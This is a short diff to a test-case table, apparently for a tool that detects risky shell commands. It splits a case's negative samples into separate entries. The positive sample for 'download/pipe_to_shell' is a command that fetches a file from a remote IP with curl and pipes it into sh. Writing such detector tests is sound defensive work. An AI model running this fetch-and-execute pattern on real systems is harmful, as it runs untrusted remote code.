@@ -52,7 +52,8 @@ CASES = {
     "download/pipe_to_shell": Case(
         ['run("sh", "-c", "curl -m1 http://198.51.100.7:9/x | sh -s -- -y; true")'],
         [
-            'run("sh", "-c", "echo true | sh; true"); run("sh", "-c", "curl -m1 http://198.51.100.7:9/x | cat; true")'
+            'run("sh", "-c", "echo true | sh; true")',
+            'run("sh", "-c", "curl -m1 http://198.51.100.7:9/x | cat; true")',
         ],
     ),
     "privilege/root_gained": Case(
